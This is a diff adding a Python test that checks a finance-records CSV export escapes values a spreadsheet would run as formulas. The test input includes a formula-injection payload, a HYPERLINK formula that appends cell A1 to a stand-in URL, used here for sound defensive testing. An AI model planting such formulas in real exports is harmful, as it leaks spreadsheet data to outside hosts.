@@ -164,3 +164,20 @@ def test_broken_mkdocs_yml_is_a_located_error(tmp_path, capsys):
     assert main(["build", "--root", str(tmp_path)]) == 1
     assert capsys.readouterr().out.startswith("mkdocs.yml:")
     shutil.rmtree(tmp_path / ".sunlight", ignore_errors=True)
+
+
+def test_text_a_spreadsheet_would_run_is_exported_as_text(tmp_path):
+    from sunlight_gongshi.site.exports import entries_csv
+    from sunlight_gongshi.validate import validate
+    write_tree(tmp_path, {"records/finance/2024/2024-03.yml": (
+        "month: 2024-03\nentries:\n"
+        "  - {id: a1, date: 2024-03-05, account: operating, amount: -5, category: \"-维修\", counterparty: \"@物业\","
+        " memo: '=HYPERLINK(\"http://x/\"&A1,\"点击\")'}\n"
+        "  - {id: a2, date: 2024-03-06, account: operating, amount: 5, category: 停车, memo: 1+1}\n"
+        "closing:\n  operating: \"100.00\"\n")})
+    records, problems = validate(tmp_path, use_cache=False)
+    assert problems == []
+    rows = list(csv.DictReader(io.StringIO(entries_csv(records))))
+    assert (rows[0]["category"], rows[0]["counterparty"], rows[0]["memo"]) == (
+        "'-维修", "'@物业", "'=HYPERLINK(\"http://x/\"&A1,\"点击\")")
+    assert (rows[0]["amount"], rows[1]["category"], rows[1]["memo"]) == ("-5.00", "停车", "1+1")
